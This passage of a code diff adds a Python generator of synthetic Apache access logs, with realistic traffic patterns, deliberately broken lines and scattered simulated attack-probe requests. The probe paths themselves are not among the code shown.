+    except zoneinfo.ZoneInfoNotFoundError:  # no tz database: the server's own offset is the best guess
+        offset_hours = np.full(24, spec.utc_offset_minutes / 60)
+    seconds = np.arange(_SECONDS_PER_DAY)
+    local_hour = (seconds / 3600 + offset_hours[seconds // 3600]) % 24
+    rate = _WEEKEND_RATE if spec.day.weekday() >= 5 else _WORKDAY_RATE
+    weights = np.interp(local_hour, np.arange(24) + 0.5, rate, period=24)
+    # minute-to-minute jitter, so the curve is not suspiciously smooth
+    return weights * np.repeat(rng.gamma(16, 1 / 16, size=1440), 60)
+
+
+def _clf_offset(minutes: int) -> str:
+    sign = "+" if minutes >= 0 else "-"
+    hours, mins = divmod(abs(minutes), 60)
+    return f"{sign}{hours:02d}{mins:02d}"
+
+
+def _timestamps(spec: LogSpec) -> np.ndarray:
+    """b'24/Nov/2026:10:15:02 +0100] "' for each UTC second of the day, formatted once."""
+    offset = spec.utc_offset_minutes * 60
+    suffix = f' {_clf_offset(spec.utc_offset_minutes)}] "'.encode()
+    prefixes = {}
+    for shift in (-1, 0, 1):
+        local = spec.day + datetime.timedelta(days=shift)
+        prefixes[shift] = f"{local.day:02d}/{_MONTHS[local.month - 1]}/{local.year}:".encode()
+    clock = [f"{h:02d}:{m:02d}:{s:02d}".encode() for h in range(24) for m in range(60) for s in range(60)]
+    return _objects([prefixes[(s + offset) // _SECONDS_PER_DAY] + clock[(s + offset) % _SECONDS_PER_DAY] + suffix
+                     for s in range(_SECONDS_PER_DAY)])
+
+
+# --- the plan of a whole log, drawn once from the seed -------------------------------------
+
+class _Plan(NamedTuple):
+    spec: LogSpec
+    clients: _Clients
+    line_second_end: np.ndarray  # lines before the end of each UTC second
+    timestamps: np.ndarray
+    ids: dict[str, _Pool]
+    queries: dict[str, _Pool]
+    referrers: dict[str, _Pool]
+    attack_lines: np.ndarray  # sorted line numbers
+    attack_kind: np.ndarray
+    attack_client: np.ndarray
+    attack_agent: np.ndarray
+    broken_at: np.ndarray  # sorted line numbers
+    broken_kind: np.ndarray
+
+
+def _plan_attacks(spec: LogSpec, rng: np.random.Generator, clients: _Clients,
+                  line_second_end: np.ndarray) -> tuple[np.ndarray, ...]:
+    """Line numbers, kinds, clients and agents of the attack probes."""
+    n = spec.lines
+    burst_target = round(n * spec.attack_share * _ATTACK_BURST_SHARE)
+    single_target = round(n * spec.attack_share) - burst_target
+    v4_end = clients.families[1][0]
+    attackers = _objects([clients.text[i] for i in rng.choice(v4_end, size=_ATTACKERS - 2, replace=False)]
+                         + [ipaddress.IPv6Address(_V6_DOCUMENTATION | int(rng.integers(1 << 16)) << 80
+                                                  | int(rng.integers(1, 1 << 16))).compressed.encode()
+                            for _ in range(2)])
+    burst_cum = _cumulative([a.burst_weight for a in _ATTACKS])
+    single_cum = _cumulative([a.single_weight for a in _ATTACKS])
+    lines, kinds, texts, agents = [], [], [], []
+    remaining = burst_target
+    while remaining > 0:
+        length = min(remaining, int(rng.geometric(1 / _ATTACK_BURST_MEAN_LINES)))
+        remaining -= length
+        kind = int(_pick(burst_cum, rng, 1)[0])
+        second = int(rng.integers(_SECONDS_PER_DAY))  # probes keep no office hours
+        span = min(n, length * 3 // 2 + 1)  # normal traffic goes on between the probes
+        first = min(int(line_second_end[second - 1]) if second else 0, n - span)
+        lines.append(first + np.sort(rng.choice(span, size=length, replace=False)))
+        kinds.append(np.full(length, kind))
+        texts.append(np.full(length, attackers[min(int(rng.geometric(0.45)) - 1, _ATTACKERS - 1)], dtype=object))
+        agents.append(np.full(length, _AGENT_INDEX[_ATTACKS[kind].agents[rng.integers(len(_ATTACKS[kind].agents))]]))
+    if single_target > 0:
+        kind = _pick(single_cum, rng, single_target)
+        lines.append(rng.integers(n, size=single_target))
+        kinds.append(kind)
+        # anyone on the internet: any v4 or v6 client, popular or not
+        v6_end = clients.families[2][0]
+        texts.append(clients.text[rng.integers(v6_end, size=single_target)])
+        agents.append(np.array([_AGENT_INDEX[_ATTACKS[k].agents[rng.integers(len(_ATTACKS[k].agents))]]
+                                for k in kind.tolist()], dtype=np.int64))
+    if not lines:
+        return np.empty(0, np.int64), np.empty(0, np.int64), np.empty(0, object), np.empty(0, np.int64)
+    line = np.concatenate(lines)
+    line, first = np.unique(line, return_index=True)  # where two probes land on one line, the first wins
+    return line, np.concatenate(kinds)[first], np.concatenate(texts)[first], np.concatenate(agents)[first]
+
+
+def _plan(spec: LogSpec) -> _Plan:
+    rng = np.random.default_rng([spec.seed, 0])
+    clients = _build_clients(rng)
+    weights = _second_weights(spec, rng)
+    line_second_end = np.cumsum(rng.multinomial(spec.lines, weights / weights.sum()))
+    emails = _emails(rng)
+    attacks = _plan_attacks(spec, rng, clients, line_second_end)
+    broken = spec.broken_lines
+    broken_at = np.sort(rng.choice(spec.lines, size=broken, replace=False)) if broken else np.empty(0, np.int64)
+    broken_kind = rng.permutation(np.arange(broken) % 4)  # an even mix of the four kinds
+    return _Plan(spec, clients, line_second_end, _timestamps(spec), _id_pools(rng, emails),
+                 _query_pools(rng, spec.day, emails), _referrer_pools(rng, spec.day, emails),
+                 *attacks, broken_at, broken_kind)
+
+
+# --- rendering a block of lines ------------------------------------------------------------
+
+def _status_cumulative(profiles: list[str]) -> np.ndarray:
+    return np.array([_cumulative([_STATUS_PROFILES[p].get(code, 0.0) for code in _STATUSES]) for p in profiles])
+
+
+def _route_table() -> dict[str, np.ndarray]:
+    heads, tails = zip(*[(r.path.split("{}") + [""])[:2] for r in _ROUTES])
+    weights = np.array([r.weights for r in _ROUTES], dtype=float)
+    return {
+        "method": _objects([f"{r.method} ".encode() for r in _ROUTES]),
+        "head": _objects([h.encode() for h in heads]),
+        "tail": _objects([t.encode() for t in tails]),
+        "ids": np.array([r.ids for r in _ROUTES]),
+        "query": np.array([r.query for r in _ROUTES]),
+        "referrer": np.array([r.referrer for r in _ROUTES]),
+        "size": np.array([r.size for r in _ROUTES], dtype=float),
+        "spread": np.array([r.spread for r in _ROUTES]),
+        "is_head": np.array([r.method == "HEAD" for r in _ROUTES]),
+        "status_cum": _status_cumulative([r.status for r in _ROUTES]),
+        "kind_cum": np.array([_cumulative(column) for column in weights.T]),
+    }
+
+
+def _attack_table() -> dict[str, np.ndarray]:
+    return {
+        "method": _objects([f"{a.method} ".encode() for a in _ATTACKS]),
+        "targets": [_objects([t.encode() for t in a.targets]) for a in _ATTACKS],
+        "status_cum": _status_cumulative([a.status for a in _ATTACKS]),
+    }
+
+
+_ROUTE_TABLE = _route_table()
+_ATTACK_TABLE = _attack_table()
+_STATUS_TEXT = _objects([f'" {code} '.encode() for code in _STATUSES])
+_STATUS_CODE = np.array(_STATUSES)
+_AGENT_TEXT = _objects([f'{a.text}"\n'.encode() for a in _AGENTS])
+_BROWSER_AGENT_INDEX = np.array([i for i, a in enumerate(_AGENTS) if a.group == "browser"])
+_BROWSER_AGENT_CUM = _cumulative([_AGENTS[i].weight for i in _BROWSER_AGENT_INDEX])
+_VHOST_OF_KIND = _objects([b"app.example.com:443 ", b"api.example.com:443 ", b"app.example.com:443 "])
+# bytes texts for sizes below this are formatted once; larger ones are rare (static files)
+_SMALL_SIZES = 1 << 16
+_SIZE_TEXT = _objects([b"-"] + [b"%d" % v for v in range(1, _SMALL_SIZES)])
+
+
+def _sizes(rng: np.random.Generator, success: np.ndarray, status: np.ndarray, no_body: np.ndarray) -> np.ndarray:
+    """Response bytes as %b writes them: the body size, "-" when there is none."""
+    n = len(status)
+    size = success.copy()
+    partial = status == 206
+    size[partial] *= rng.uniform(0.02, 0.5, size=int(partial.sum()))
+    redirect = (status == 301) | (status == 302)
+    size[redirect] = rng.integers(180, 270, size=int(redirect.sum()))
+    client_error = (status >= 400) & (status < 500)
+    size[client_error] = 140 * np.exp(0.35 * rng.standard_normal(int(client_error.sum())))
+    server_error = status >= 500
+    size[server_error] = 420 * np.exp(0.3 * rng.standard_normal(int(server_error.sum())))
+    size = np.maximum(size.astype(np.int64), 1)
+    size[no_body | (status == 204) | (status == 304) | (status == 408)] = 0
+    text = np.empty(n, dtype=object)
+    small = size < _SMALL_SIZES
+    text[small] = _SIZE_TEXT[size[small]]
+    text[~small] = [b"%d" % v for v in size[~small].tolist()]
+    return text
+
+
+def _broken_line(rng: np.random.Generator, row: np.ndarray, kind: int) -> bytes:
+    if kind == _EMPTY:
+        return b"\n"
+    if kind == _TRUNCATED:  # the writer died mid-line
+        start = len(b"".join(row[:_METHOD]))
+        length = len(b"".join(row[_METHOD:_PROTOCOL + 1]))
+        return b"".join(row)[:start + int(rng.integers(length))] + b"\n"
+    if kind == _MISSING_FIELDS:
+        if rng.random() < 0.5:  # ends after the status
+            return b"".join(row[:_STATUS + 1]).rstrip() + b"\n"
+        return b"".join([*row[:_USER], b" - - ", b'"', *row[_METHOD:]])  # no time field
+    noise = rng.integers(1, 256, size=int(rng.integers(20, 120)), dtype=np.uint8)
+    noise[(noise == 0x0A) | (noise == 0x0D)] = 0  # bytes, never a line break
+    # a TLS ClientHello sent to the plain-HTTP port, then noise with NUL and invalid UTF-8
+    return b"\x16\x03\x01\x00\xf1\x01\x00\x00\xed\x03\x03" + noise.tobytes() + b"\x00\xff\xfe\x00" + b"\n"
+
+
+def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
+    spec, clients, routes = plan.spec, plan.clients, _ROUTE_TABLE
+    rng = np.random.default_rng([spec.seed, 1, block])
+    n = stop - first
+    pieces = np.full((n, _COLUMNS), b"", dtype=object)
+
+    seconds = np.searchsorted(plan.line_second_end, np.arange(first, stop), side="right")
+    pieces[:, _TIME] = plan.timestamps[seconds]
+
+    shares = (1 - spec.ipv6_share - spec.mapped_share - spec.hostname_share,
+              spec.ipv6_share, spec.mapped_share, spec.hostname_share)
+    family = _pick(_cumulative(shares), rng, n)
+    client = np.empty(n, dtype=np.int64)
+    for f, (start, cum) in enumerate(clients.families):
+        members = family == f
+        client[members] = start + _pick(cum, rng, int(members.sum()))
+    kind = clients.kind[client]
+    pieces[:, _CLIENT] = clients.text[client]
+    pieces[:, _USER] = clients.user[client]
+    pieces[:, _PROTOCOL] = clients.protocol[client]
+    agent = clients.agent[client]
+    switch = (kind == _BROWSER) & (rng.random(n) < _AGENT_SWITCH_SHARE)
+    agent[switch] = _BROWSER_AGENT_INDEX[_pick(_BROWSER_AGENT_CUM, rng, int(switch.sum()))]
+    if spec.fmt == "vhost_combined":
+        pieces[:, _VHOST] = _VHOST_OF_KIND[kind]
+
+    route = np.empty(n, dtype=np.int64)
+    for k in (_BROWSER, _INTEGRATION, _ROBOT):
+        members = kind == k
+        route[members] = _pick(routes["kind_cum"][k], rng, int(members.sum()))
+    pieces[:, _METHOD] = routes["method"][route]
+    pieces[:, _PATH] = routes["head"][route]
+    pieces[:, _SUFFIX] = routes["tail"][route]
+    for column, pools, names in ((_ID, plan.ids, routes["ids"]), (_QUERY, plan.queries, routes["query"])):
+        for name, pool in pools.items():
+            members = names[route] == name
+            pieces[members, column] = pool.pick(rng, int(members.sum()))
+    referrer = np.empty(n, dtype=object)
+    for name, pool in plan.referrers.items():
+        members = routes["referrer"][route] == name
+        referrer[members] = pool.pick(rng, int(members.sum()))
+    referrer[kind != _BROWSER] = plan.referrers["none"].items[0]
+    status = _STATUS_CODE[_draw(routes["status_cum"][route], rng)]
+    success = routes["size"][route] * np.exp(routes["spread"][route] * rng.standard_normal(n))
+    no_body = routes["is_head"][route].copy()
+
+    timeout = rng.random(n) < _TIMEOUT_SHARE
+    pieces[timeout, _METHOD:_PROTOCOL + 1] = b""
+    pieces[timeout, _PATH] = b"-"
+    status[timeout] = 408
+    referrer[timeout] = plan.referrers["none"].items[0]
+    agent[timeout] = _NO_AGENT
+
+    lo, hi = np.searchsorted(plan.attack_lines, (first, stop))
+    if hi > lo:
+        rows = plan.attack_lines[lo:hi] - first
+        attack = plan.attack_kind[lo:hi]
+        pieces[rows, _CLIENT] = plan.attack_client[lo:hi]
+        pieces[rows, _USER] = b" - - ["
+        pieces[rows, _METHOD] = _ATTACK_TABLE["method"][attack]
+        pieces[rows, _PATH] = [_ATTACK_TABLE["targets"][k][rng.integers(len(_ATTACK_TABLE["targets"][k]))]
+                               for k in attack.tolist()]
+        pieces[rows, _ID:_QUERY + 1] = b""
+        pieces[rows, _PROTOCOL] = b" HTTP/1.1"
+        status[rows] = _STATUS_CODE[_draw(_ATTACK_TABLE["status_cum"][attack], rng)]
+        success[rows] = 2300 * np.exp(0.2 * rng.standard_normal(len(rows)))
+        no_body[rows] = False
+        referrer[rows] = plan.referrers["none"].items[0]
+        agent[rows] = plan.attack_agent[lo:hi]
+        if spec.fmt == "vhost_combined":
+            pieces[rows, _VHOST] = _VHOST_OF_KIND[_BROWSER]
+
+    pieces[:, _STATUS] = _STATUS_TEXT[np.searchsorted(_STATUS_CODE, status)]
+    pieces[:, _BYTES] = _sizes(rng, success, status, no_body)
+    if spec.fmt == "common":
+        pieces[:, _REFERRER] = b"\n"
+    else:
+        pieces[:, _REFERRER] = referrer
+        pieces[:, _AGENT] = _AGENT_TEXT[agent]
+
+    lo, hi = np.searchsorted(plan.broken_at, (first, stop))
+    for line, kind_of_break in zip(plan.broken_at[lo:hi].tolist(), plan.broken_kind[lo:hi].tolist()):
+        row = line - first
+        text = _broken_line(rng, pieces[row], kind_of_break)
+        pieces[row] = b""
+        pieces[row, 0] = text
+    return b"".join(pieces.ravel().tolist())
+
+
+# --- the public functions ------------------------------------------------------------------
+
+def generate_lines(spec: LogSpec) -> Iterator[bytes]:
+    """The log as blocks of whole lines, each ending in b"\\n"; the same spec gives the same bytes."""
+    if spec.lines == 0:
+        return
+    plan = _plan(spec)
+    for block, first in enumerate(range(0, spec.lines, _BLOCK_LINES)):
+        yield _render_block(plan, first, min(first + _BLOCK_LINES, spec.lines), block)
+
+
+def _compressed(raw: BinaryIO) -> gzip.GzipFile:
+    # level 1: several times faster than the default 9 for a few percent more bytes;
+    # mtime 0 and no file name in the header keep the output reproducible
+    return gzip.GzipFile(filename="", mode="wb", compresslevel=1, fileobj=raw, mtime=0)
+
+
+def write_log(path: str | Path, spec: LogSpec) -> GeneratedLog:
+    """Write the log to `path` (gzip when it ends in .gz) and say what is in it."""
+    path = Path(path)
+    with open(path, "wb") as raw, _compressed(raw) if path.suffix == ".gz" else contextlib.nullcontext(raw) as out:
+        for block in generate_lines(spec):
+            out.write(block)
+    return GeneratedLog(str(path), spec.lines, spec.broken_lines, path.stat().st_size)
+
+
+def main(argv: Sequence[str] | None = None) -> None:
+    parser = argparse.ArgumentParser(description="Write a realistic synthetic access log.")
+    parser.add_argument("path", help="where to write; a name ending in .gz is gzip-compressed")
+    for field in dataclasses.fields(LogSpec):
+        default = field.default
+        convert = datetime.date.fromisoformat if isinstance(default, datetime.date) else type(default)
+        parser.add_argument("--" + field.name.replace("_", "-"), type=convert, default=default,
+                            choices=FORMATS if field.name == "fmt" else None)
+    args = vars(parser.parse_args(argv))
+    path = args.pop("path")
+    started = time.perf_counter()
+    log = write_log(path, LogSpec(**args))
+    print(f"{log.path}: {log.lines} lines ({log.broken_lines} broken), {log.size_bytes} bytes, "
+          f"{time.perf_counter() - started:.1f} s")
+
+
+if __name__ == "__main__":
+    main()
